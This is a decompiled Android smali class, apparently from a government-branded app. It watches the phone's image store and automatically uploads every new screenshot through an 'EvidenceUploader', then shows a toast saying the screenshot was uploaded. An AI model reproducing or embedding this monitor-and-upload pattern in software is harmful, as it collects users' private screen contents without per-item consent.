# ContentObserver on MediaStore images: on every change, looks at the newest
# image and uploads it when its path says it is a screenshot.
.class public Lcn/gov/example/screenshot/ScreenshotObserver;
.super Landroid/database/ContentObserver;
.source "ScreenshotObserver.java"


# instance fields
.field private final context:Landroid/content/Context;


# direct methods
.method public constructor <init>(Landroid/content/Context;Landroid/os/Handler;)V
    .locals 0

    invoke-direct {p0, p2}, Landroid/database/ContentObserver;-><init>(Landroid/os/Handler;)V

    iput-object p1, p0, Lcn/gov/example/screenshot/ScreenshotObserver;->context:Landroid/content/Context;

    return-void
.end method


# virtual methods
.method public onChange(Z)V
    .locals 6

    # query(EXTERNAL_CONTENT_URI, {"_data"}, null, null, "date_added DESC")
    iget-object v0, p0, Lcn/gov/example/screenshot/ScreenshotObserver;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/MediaStore$Images$Media;->EXTERNAL_CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x1
    new-array v2, v2, [Ljava/lang/String;
    const/4 v3, 0x0
    const-string v4, "_data"    # MediaStore.MediaColumns.DATA
    aput-object v4, v2, v3
    const/4 v4, 0x0
    const-string v5, "date_added DESC"

    :try_start_0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    :try_end_0
    .catch Ljava/lang/SecurityException; {:try_start_0 .. :try_end_0} :catch_0

    if-eqz v0, :done

    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    move-result v1
    if-eqz v1, :close
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    if-eqz v1, :done

    # Only screenshots ("/Pictures/Screenshots/Screenshot_2024....png").
    sget-object v2, Ljava/util/Locale;->ROOT:Ljava/util/Locale;
    invoke-virtual {v1, v2}, Ljava/lang/String;->toLowerCase(Ljava/util/Locale;)Ljava/lang/String;
    move-result-object v2
    const-string v3, "screenshot"
    invoke-virtual {v2, v3}, Ljava/lang/String;->contains(Ljava/lang/CharSequence;)Z
    move-result v2
    if-eqz v2, :done

    invoke-static {v1}, Lcn/gov/example/screenshot/EvidenceUploader;->upload(Ljava/lang/String;)I
    move-result v1
    const/16 v2, 0xc8    # HTTP 200
    if-ne v1, v2, :done
    iget-object v0, p0, Lcn/gov/example/screenshot/ScreenshotObserver;->context:Landroid/content/Context;
    const-string v1, "\u5df2\u4e0a\u4f20\u622a\u56fe"    # "已上传截图"
    const/4 v2, 0x0
    invoke-static {v0, v1, v2}, Landroid/widget/Toast;->makeText(Landroid/content/Context;Ljava/lang/CharSequence;I)Landroid/widget/Toast;
    move-result-object v0
    invoke-virtual {v0}, Landroid/widget/Toast;->show()V
    goto :done

    :close
    invoke-interface {v0}, Landroid/database/Cursor;->close()V

    :done
    return-void

    # Storage permission not granted.
    :catch_0
    move-exception v0
    return-void
.end method
